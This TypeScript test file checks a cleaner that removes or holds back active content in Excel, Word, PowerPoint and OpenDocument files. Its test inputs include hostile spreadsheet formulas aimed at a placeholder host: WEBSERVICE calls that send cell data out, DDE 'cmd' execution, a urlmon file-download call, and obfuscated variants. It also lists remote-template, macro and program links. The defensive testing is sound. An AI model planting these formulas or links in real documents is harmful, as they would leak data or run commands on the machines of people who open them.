import { strFromU8, unzipSync } from 'fflate';
import { clean } from '../../../src/vault/cleaning/clean';
import type { MediaType } from '../../../src/vault/cleaning/media-type';
import { cleanedTwice } from './cleaned-twice';
import { links, odf, zip, type Files } from './documents';
import { office, typeOf, type Kind } from './small-office';
import { tracesIn } from './traces';

const SHEET: MediaType = 'application/vnd.oasis.opendocument.spreadsheet';
const TEXT: MediaType = 'application/vnd.oasis.opendocument.text';
/** Stands only where a program would call out to; a copy that has it anywhere could. */
const HOST = 'beacon.example.net';

function everything(content: Buffer): string {
  return Object.values(unzipSync(content))
    .map((file) => strFromU8(file, true))
    .join('\n');
}

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** Formulas that fetch, send, ask another program, open another file or lead there with one click. */
const CALLS = [
  `WEBSERVICE("https://${HOST}/?"&A1)`,
  `_xlfn.WEBSERVICE("https://${HOST}")`,
  `1+ webservice ("https://${HOST}")`,
  `IF(TRUE,_xlfn.IMAGE("https://${HOST}/a.png"),1)`,
  `HYPERLINK("https://${HOST}/?"&A1,"Click")`,
  `IMPORTDATA("https://${HOST}")`,
  `IMPORTXML("https://${HOST}","//a")`,
  `cmd|'/c start ${HOST}'!A0`,
  `'cmd'|'/c ${HOST}'!A0`,
  `DDE("soffice","${HOST}","A1")`,
  `RTD("a.b","${HOST}","c")`,
  `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://${HOST}")`,
  `REGISTER.ID("${HOST}","a")`,
  `INDIRECT("'https://${HOST}/[x.xlsx]S'!A1")`,
  `'\\\\${HOST}\\share\\[x.xlsx]S'!A1`,
  `'https://${HOST}/[x.xlsx]S'!A1`,
  `SQL.REQUEST("${HOST}")`,
  `CUBEVALUE("${HOST}","x")`,
  `STOCKHISTORY("${HOST}",1)`,
  `TRANSLATE(A1,"en","${HOST}")`,
  `'a"b'!A1+WEBSERVICE("https://${HOST}")+'c"d'!A1`,
  `T['"]&WEBSERVICE("https://${HOST}")&T['"]`,
  `T['x]&WEBSERVICE(A1)&T['x]&"${HOST}"`,
  `LET(f,_xleta.WEBSERVICE,f("https://${HOST}"))`,
  `MyOwn("https://${HOST}")`,
  `{cmd|'/c ${HOST}'!A0}`,
];

/** Formulas that only calculate. */
const QUIET = [
  'SUM(A1:A9)',
  'IF(A1>1,"a (b) | c","https://example.org")',
  "VLOOKUP(A1,'Last year (final)'!$A$1:$B$9,2,FALSE)",
  '_xlfn.XLOOKUP(A1,B:B,C:C)',
  'SUMPRODUCT((A1:A9="x")*(B1:B9))',
  '[1]Sheet1!A1+1',
  'Table1[[#This Row],[Amount]]*1.2',
  'SUM({1,2;3,4})',
  "'It''s'!A1&\"it's\"",
];

const sheet = (cells: string, more = ''): string =>
  `<?xml version="1.0"?><worksheet><sheetData><row r="1">${cells}</row></sheetData>${more}</worksheet>`;
const excel = (text: string): Buffer =>
  office('Excel', 'worksheet', text.startsWith('<?xml') ? text : `<?xml version="1.0"?>${text}`);
const held = async (content: Buffer, type: MediaType): Promise<string> => {
  const result = await clean(content, type);
  return result.kind === 'held' ? result.why : 'cleaned';
};

describe('a formula of Excel', () => {
  it.each(CALLS)('that calls out is gone, and the value that it had stays: %s', async (formula) => {
    const content = excel(
      sheet(
        `<c r="A1" t="str" cm="1"><f t="shared" ref="A1:A2" si="0">${escaped(formula)}</f><v>shown</v></c><c r="A2"><f t="shared" si="0"/><v>7</v></c><c r="A3"><f>SUM(A1)</f><v>8</v></c>`,
      ),
    );
    const copy = await cleanedTwice(content, typeOf('Excel'));
    expect(everything(copy.content)).toContain(
      '<c r="A1" t="str"><v>shown</v></c><c r="A2"><v>7</v></c><c r="A3"><v>8</v></c>',
    );
    expect([tracesIn(copy.content, [HOST]), copy.removed]).toEqual([[], ['LINKS']]);
  });

  it.each(QUIET)('that only calculates stays: %s', async (formula) => {
    const cell = `<c r="A1" cm="1"><f>${escaped(formula)}</f><v>1</v></c>`;
    const copy = await cleanedTwice(excel(sheet(cell)), typeOf('Excel'));
    expect(everything(copy.content)).toContain(cell);
  });

  it('that is in pieces is read as one', async () => {
    const cell = `<c r="A1"><f>WEB<!-- a --><![CDATA[SERVICE("https://${HOST}]]>&#34;)</f><v>1</v></c>`;
    const copy = await cleanedTwice(excel(sheet(cell)), typeOf('Excel'));
    expect(everything(copy.content)).toContain('<c r="A1"><v>1</v></c>');
  });

  it.each([
    ['a name', (formula: string) => `<workbook><definedName name="n">${formula}</definedName></workbook>`],
    [
      'a format that depends on a cell',
      (formula: string) =>
        sheet(
          '',
          `<conditionalFormatting><cfRule><formula>${formula}</formula></cfRule></conditionalFormatting>`,
        ),
    ],
    ['a colour scale', (formula: string) => sheet('', `<cfvo type="formula" val="${formula}"/>`)],
    ['a chart', (formula: string) => `<c:chart><c:f>${formula}</c:f></c:chart>`],
    ['a field of a pivot table', (formula: string) => `<cacheField formula="${formula}"/>`],
    ['a shape', (formula: string) => `<xdr:sp textlink="${formula}"/>`],
  ])('that calls out and no value stands for is held back: %s', async (_, make) => {
    for (const formula of CALLS)
      expect([formula, await held(excel(make(escaped(formula))), typeOf('Excel'))]).toEqual([
        formula,
        'ACTIVE-CONTENT',
      ]);
    for (const formula of QUIET)
      expect([formula, await held(excel(make(escaped(formula))), typeOf('Excel'))]).toEqual([
        formula,
        'cleaned',
      ]);
  });

  it('that only helps to fill in goes without a word of what is shown', async () => {
    const more = `<dataValidations><dataValidation><formula1>INDIRECT(A1)</formula1></dataValidation></dataValidations><calculatedColumnFormula>WEBSERVICE("${HOST}")</calculatedColumnFormula>`;
    const copy = await cleanedTwice(excel(sheet('<c><v>1</v></c>', more)), typeOf('Excel'));
    expect(everything(copy.content)).toContain(sheet('<c><v>1</v></c>'));
  });

  it('whose value tells where the file lay loses it', async () => {
    const cells = `<c r="A1" t="str"><f>CELL("filename")</f><v>C:\\Users\\${HOST}\\x.xlsx</v></c><c r="A2"><f>SUM(B1)</f><v>5</v></c>`;
    const copy = await cleanedTwice(excel(sheet(cells)), typeOf('Excel'));
    expect(everything(copy.content)).toContain('<c r="A1" t="str"><v></v></c><c r="A2"><v>5</v></c>');
  });
});

describe('a formula of OpenDocument', () => {
  const cell = (formula: string): string =>
    `<table:table-cell table:formula="of:=${escaped(formula)}" office:string-value="v"><text:p>shown</text:p></table:table-cell>`;
  const made = (body: string): Promise<Buffer> =>
    odf('spreadsheet', { 'content.xml': `<?xml version="1.0"?><a>${body}</a>` });

  it.each([...CALLS, `COM.MICROSOFT.WEBSERVICE("https://${HOST}")`, `['https://${HOST}/a.ods'#$S.A1]`])(
    'that calls out is gone, and what it showed stays: %s',
    async (formula) => {
      const copy = await cleanedTwiceOdf(await made(cell(formula)), SHEET);
      expect(copy).toContain(
        '<table:table-cell office:string-value="v"><text:p>shown</text:p></table:table-cell>',
      );
      expect(copy).not.toContain(HOST);
    },
  );

  it.each(['SUM([.A1:.A9])', "[$'My Sheet'.A1]*2", 'SUM({1;2|3;4})', 'COUNTIF([.A1:.A9];"a|b")'])(
    'that only calculates stays: %s',
    async (formula) => {
      expect(await cleanedTwiceOdf(await made(cell(formula)), SHEET)).toContain(cell(formula));
    },
  );

  it('that a name or a condition has is held back when it calls out, and stays when not', async () => {
    for (const [formula, outcome] of [
      [`WEBSERVICE("https://${HOST}")`, 'ACTIVE-CONTENT'],
      ['cell-content-is-between(1;5)', 'cleaned'],
    ] as const)
      for (const attribute of ['table:condition', 'table:expression'])
        expect(await held(await made(`<x ${attribute}="of:${escaped(formula)}"/>`), SHEET)).toBe(outcome);
  });

  it('that tells where the file lay loses what it showed', async () => {
    const text = `<table:table-cell table:formula="of:=CELL(&quot;FILENAME&quot;)" office:string-value="file:///home/${HOST}/x"><text:p>'file:///home/${HOST}/x'#$A</text:p></table:table-cell>`;
    expect(await cleanedTwiceOdf(await made(text), SHEET)).not.toContain(HOST);
  });
});

async function cleanedTwiceOdf(content: Buffer, type: MediaType): Promise<string> {
  const first = await clean(content, type);
  if (first.kind === 'held') throw new Error(`held: ${first.why}`);
  return everything((await cleanedTwice(first.content, type)).content);
}

describe('an office document that would fetch something when it is opened', () => {
  const main = (kind: Kind, text: string, ...more: Parameters<typeof links>): Buffer => {
    const files = unzipSync(office(kind, '', text, 'main')) as unknown as Files;
    const [name] = { Word: ['word/document'], Excel: ['xl/workbook'], PowerPoint: ['ppt/presentation'] }[
      kind
    ];
    const parts = Object.fromEntries(
      Object.entries(files).map(([one, file]) => [one, Buffer.from(file as Buffer)]),
    );
    return zip({ ...parts, [`${name!.replace('/', '/_rels/')}.xml.rels`]: links(...more) });
  };

  it.each<[string, Kind, string]>([
    ['a picture of an older drawing', 'Word', `<v:imagedata src="https://${HOST}/a.png"/>`],
    ['a picture on a share', 'Word', `<v:fill src="//${HOST}/a.png"/>`],
    ['a picture that is escaped', 'Word', `<v:imagedata o:href="\\&#92;${HOST}\\a.png"/>`],
    ['a film of the web', 'Word', `<wp15:webVideoPr embeddedHtml="&lt;iframe src=https://${HOST}>"/>`],
    [
      'a schema',
      'Word',
      `<sl:schemaLibrary><sl:schema sl:manifestLocation="https://${HOST}"/></sl:schemaLibrary>`,
    ],
    ['a tag of text', 'Word', `<w:smartTagType w:url="https://${HOST}"/>`],
    ['a macro elsewhere', 'Excel', `<xdr:sp macro="'https://${HOST}/[x]'!run"/>`],
    ['a macro of an older drawing', 'Excel', `<x:FmlaMacro>[0]!${HOST}</x:FmlaMacro>`],
    [
      'what a pointer passes by',
      'PowerPoint',
      `<a:hlinkHover action="ppaction://program" tooltip="${HOST}"/>`,
    ],
    ['a document type elsewhere', 'Word', `<!DOCTYPE a SYSTEM "https://${HOST}/a.dtd"><a/>`],
    ['a style sheet', 'Word', `<?xml-stylesheet href="https://${HOST}/a.xsl"?><a/>`],
  ])('loses %s', async (_, kind, text) => {
    const body = text.startsWith('<!') || text.startsWith('<?') ? text : `<a>${text}</a>`;
    const result = await clean(main(kind, body), typeOf(kind));
    if (result.kind === 'held') throw new Error(`held: ${result.why}`);
    expect(tracesIn(result.content, [HOST])).toEqual([]);
    await cleanedTwice(result.content, typeOf(kind));
  });

  it.each([
    'image',
    'oleLink',
    'attachedTemplate',
    'frame',
    'video',
    'audio',
    'externalLinkPath',
    'queryTable',
  ])('loses where a link of the kind %s leads', async (kind) => {
    for (const target of [
      `https://${HOST}/x`,
      `\\\\${HOST}\\x`,
      `//${HOST}/x`,
      `ftp&#58;//${HOST}/x`,
      `ms-word:ofe|u|https://${HOST}`,
    ]) {
      const result = await clean(main('Word', '<a/>', [kind, target, true]), typeOf('Word'));
      if (result.kind === 'cleaned') expect(tracesIn(result.content, [HOST])).toEqual([]);
      else expect(result.why).toBe('ACTIVE-CONTENT');
    }
  });

  it.each<[string, Kind, string]>([
    ['a picture that is fetched by the name of a link to click on', 'Word', '<a:blip r:link="rId1"/>'],
    ['a template so', 'Word', '<w:x r:id="rId1"/>'],
    ['a film so', 'PowerPoint', '<a:videoFile r:link="rId1"/>'],
    ['a program', 'PowerPoint', '<a:hlinkClick action="ppaction://program"/>'],
    ['a macro', 'PowerPoint', '<a:hlinkClick action="ppaction://macro?name=x"/>'],
    ['an object', 'PowerPoint', '<a:hlinkClick action="ppaction&#58;//ole?verb=0"/>'],
  ])('is held back with %s', async (_, kind, text) => {
    const content = main(kind, `<a>${text}</a>`, ['hyperlink', `https://${HOST}`, true]);
    expect(await held(content, typeOf(kind))).toBe('ACTIVE-CONTENT');
  });

  it('is held back with a link whose mode is neither inside nor outside', async () => {
    const text = links(['image', `https://${HOST}`, true]).replace('External', 'Elsewhere');
    const files = unzipSync(office('Word', '', '<a/>', 'main'));
    const parts = Object.fromEntries(Object.entries(files).map(([name, file]) => [name, Buffer.from(file)]));
    expect(await held(zip({ ...parts, 'word/_rels/document.xml.rels': text }), typeOf('Word'))).toBe(
      'BROKEN',
    );
  });

  it('keeps links that somebody may click', async () => {
    const text =
      '<w:document><w:hyperlink r:id="rId1"/><a:hlinkClick r:id="rId1" action="ppaction://hlinksldjump"/></w:document>';
    const copy = await cleanedTwice(
      main('Word', text, ['hyperlink', `https://${HOST}`, true]),
      typeOf('Word'),
    );
    expect(everything(copy.content)).toContain(text);
    expect(tracesIn(copy.content, [HOST])).toEqual([HOST]);
  });

  it.each([
    ['a picture', `<draw:image xlink:href="https://${HOST}/a.png"/>`],
    ['a picture on a share', `<draw:image xlink:href="\\\\${HOST}\\a.png"/>`],
    ['a section of another document', `<text:section-source xlink:href=" https://${HOST}/a.odt"/>`],
    ['a command to click on', `<text:a xlink:href="vnd.sun.star.script:${HOST}?language=Basic"/>`],
    ['a macro to click on', `<text:a xlink:href="macro:///${HOST}"/>`],
    ['a command of the program', `<draw:a xlink:href=".uno:${HOST}"/>`],
    ['data of a form', `<xforms:instance src="https://${HOST}"/>`],
    ['a database', `<form:form form:datasource="${HOST}"/>`],
  ])('of OpenDocument loses %s', async (_, text) => {
    const made = await odf('text', { 'content.xml': `<?xml version="1.0"?><a>${text}</a>` });
    expect(await cleanedTwiceOdf(made, TEXT)).not.toContain(HOST);
  });

  it.each([
    'dde-source',
    'submission',
    'database-source-sql',
    'floating-frame',
    'applet',
    'plugin',
    'event-listener',
  ])('of OpenDocument is held back with an element %s', async (element) => {
    const made = await odf('text', { 'content.xml': `<a><x:${element} x="${HOST}"/></a>` });
    expect(await held(made, TEXT)).toBe('ACTIVE-CONTENT');
  });
});
